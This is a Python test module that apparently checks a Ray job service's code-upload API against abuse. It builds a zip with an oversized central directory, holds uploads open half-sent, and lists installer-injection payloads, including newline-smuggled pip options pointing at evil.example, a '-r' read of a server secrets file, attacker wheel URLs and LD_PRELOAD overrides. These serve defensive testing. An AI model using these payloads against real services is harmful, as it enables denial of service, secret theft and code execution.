"""Attacks on uploaded code and the job's package environment, shared by the tests and
``bench/abuse_code.py``: a zip whose central directory is huge, uploads held open, a
package rewritten in storage, and runtime_env entries that steer Ray's installer."""

from __future__ import annotations

import hashlib
import io
import socket
import struct
import time
import zipfile
from pathlib import Path

import httpx

from api.code_package import TOP
from bench.harness import attacks
from bench.harness.attacks import Target

MINIMAL_RECORD = 46 + 6  # a central-directory record naming "code/x"


def package(files: dict[str, bytes] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in (files or {"main.py": b"def train(config):\n    pass\n"}).items():
            zf.writestr(f"{TOP}/{name}", data)
    return buf.getvalue()


def upload(url: str, body: bytes) -> tuple[str, httpx.Response]:
    sha = hashlib.sha256(body).hexdigest()
    return sha, httpx.put(f"{url}/v1/code/{sha}", content=body, timeout=120)


def huge_directory_zip(size: int) -> bytes:
    """``size`` bytes of minimal central-directory records (no file data at all) behind
    a zip64 end record that claims them: what ``ZipFile`` turns into one object each."""
    name = f"{TOP}/x".encode()
    record = struct.pack("<4s6H3I5HII", b"PK\x01\x02", 0x031E, 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0, 0, 0, 0, 0, 0)
    record += name
    n = size // len(record)
    directory = record * n
    zip64_end = struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 0x031E, 45, 0, 0, n, n, len(directory), 0)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, len(directory), 1)
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return directory + zip64_end + locator + end


def upload_peak_growth_mib(target: Target, body: bytes) -> tuple[httpx.Response, float]:
    """The upload's answer and how far the server's peak memory rose while it was taken."""
    sha = hashlib.sha256(body).hexdigest()
    httpx.get(f"{target.url}/healthz")
    attacks.reset_peak_rss(target)
    before = attacks.server_peak_rss_kib(target)
    r = httpx.put(f"{target.url}/v1/code/{sha}", content=body, timeout=300)
    return r, (attacks.server_peak_rss_kib(target) - before) / 1024


def hold_uploads(target: Target, n: int, body: bytes) -> list[socket.socket]:
    """``n`` uploads that send half their body and wait: each holds an upload slot."""
    sha = hashlib.sha256(body).hexdigest()
    port = int(target.url.rsplit(":", 1)[1])
    held = []
    for _ in range(n):
        sock = socket.create_connection(("127.0.0.1", port))
        head = f"PUT /v1/code/{sha} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: {len(body)}\r\n\r\n"
        sock.sendall(head.encode() + body[: len(body) // 2])
        held.append(sock)
    incoming = target.server.data_dir / "code-incoming"
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:  # each upload has its temp file once the server is reading it
        if incoming.exists() and len(list(incoming.iterdir())) >= n:
            break
        time.sleep(0.05)
    return held


def release(held: list[socket.socket]) -> None:
    for sock in held:
        sock.close()


def stored_package(target: Target, sha: str) -> Path:
    return target.server.data_dir / "storage" / "_code" / f"{sha}.zip"


def job(sha: str, **runtime_env) -> dict:
    return {
        "name": "attacker",
        "entrypoint": "main:train",
        "code": f"sha256:{sha}",
        "scaling": {"num_workers": 1},
        "runtime_env": runtime_env,
    }


INSTALLER_ATTACKS = [
    ("a newline turns a pip entry into an index option", {"pip": ["numpy\n--index-url https://evil.example/simple"]}),
    ("a newline turns a pip entry into -r of a server file", {"pip": ["numpy\n-r /etc/raydock/secrets.txt"]}),
    ("a newline in a uv entry", {"uv": {"packages": ["numpy\r--extra-index-url=https://evil.example"]}}),
    ("a direct reference to an attacker's wheel", {"pip": ["numpy @ https://evil.example/numpy-9.9-py3-none-any.whl"]}),
    ("a direct reference over http to an allowed host", {"pip": ["numpy @ http://wheels.internal.example/n.whl"]}),
    ("a git URL", {"pip": ["numpy @ git+https://evil.example/numpy.git"]}),
    ("pip itself from a URL", {"pip": {"packages": ["numpy"], "pip_version": " @ https://evil.example/pip.whl"}}),
    ("PIP_INDEX_URL", {"pip": ["numpy"], "env_vars": {"PIP_INDEX_URL": "https://evil.example/simple"}}),
    ("PIP_EXTRA_INDEX_URL", {"pip": ["numpy"], "env_vars": {"PIP_EXTRA_INDEX_URL": "https://evil.example/simple"}}),
    ("PIP_CONFIG_FILE", {"pip": ["numpy"], "env_vars": {"PIP_CONFIG_FILE": "/tmp/ray/session_latest/pip.conf"}}),
    ("UV_INDEX_URL", {"uv": ["numpy"], "env_vars": {"UV_INDEX_URL": "https://evil.example/simple"}}),
    ("pip_index_url in lower case", {"env_vars": {"pip_index_url": "https://evil.example/simple"}}),
    ("PYTHONPATH", {"env_vars": {"PYTHONPATH": "/tmp/evil"}}),
    ("LD_PRELOAD", {"env_vars": {"LD_PRELOAD": "/tmp/evil.so"}}),
    ("CONDA_PKGS_DIRS", {"env_vars": {"CONDA_PKGS_DIRS": "/tmp/evil"}}),
    ("HOME (pip reads its config there)", {"env_vars": {"HOME": "/tmp/evil"}}),
]
